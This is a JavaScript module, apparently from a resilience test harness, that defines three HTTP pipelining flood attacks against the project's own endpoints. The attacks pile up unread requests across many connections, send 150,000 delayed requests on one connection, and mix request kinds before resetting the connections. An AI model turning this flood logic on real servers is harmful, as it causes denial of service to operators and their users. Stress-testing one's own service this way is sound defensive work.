/** Many requests on a connection, without waiting for answers. */

import { setTimeout as sleep } from 'node:timers/promises';

const batch = 500;

/** How long the connections of one round stay. */
const roundMs = 2500;

/**
 * Sends a request many times over, as fast as it is taken.
 *
 * @param {import('node:net').Socket} socket
 * @param {string} request
 * @param {number} times
 */
function pipeline(socket, request, times) {
  let sent = 0;
  const more = () => {
    while (sent < times && !socket.destroyed) {
      const count = Math.min(batch, times - sent);
      sent += count;
      if (!socket.write(request.repeat(count), 'latin1')) return;
    }
  };
  socket.on('drain', more);
  more();
}

/** @type {readonly import('../attacker.js').Attack[]} */
export const pipeliningAttacks = [
  {
    name: '20 connections with 1,600 requests for /openapi.json each, unread',
    async run(attacker) {
      while (!attacker.isOver()) {
        await attacker.openMany(20, (socket) => {
          socket.pause();
          pipeline(socket, attacker.bytes('GET', '/openapi.json'), 1600);
        });
        await Promise.race([sleep(roundMs), attacker.untilOver()]);
        if (!attacker.isOver()) attacker.resetAll();
      }
    },
  },
  {
    name: '150,000 delayed requests on one connection',
    async run(attacker) {
      await attacker.openMany(1, (socket) => {
        socket.resume();
        pipeline(socket, attacker.bytes('GET', '/api/methods/get?delay=10'), 150_000);
      });
      await attacker.untilOver();
    },
  },
  {
    name: 'requests of all kinds pipelined, then reset',
    async prepare(attacker) {
      const { text } = await attacker.ask('POST', '/api/webhooks/bins');
      return JSON.parse(text).id;
    },
    async run(attacker, bin) {
      const requests = [
        attacker.bytes('GET', '/openapi.json'),
        attacker.bytes('GET', '/api/methods/get?delay=10'),
        attacker.bytes('GET', `/api/webhooks/bins/${bin}/requests?after=0&wait=60`),
        attacker.bytes('GET', `/api/webhooks/bins/${bin}/events`),
        attacker.bytes('POST', '/api/methods/post', { body: 'x'.repeat(1000) }),
      ];
      while (!attacker.isOver()) {
        await attacker.openMany(50, (socket, index) => {
          socket.pause();
          pipeline(socket, requests[index % requests.length] ?? '', 200);
        });
        await sleep(20);
        attacker.resetAll();
      }
    },
  },
];
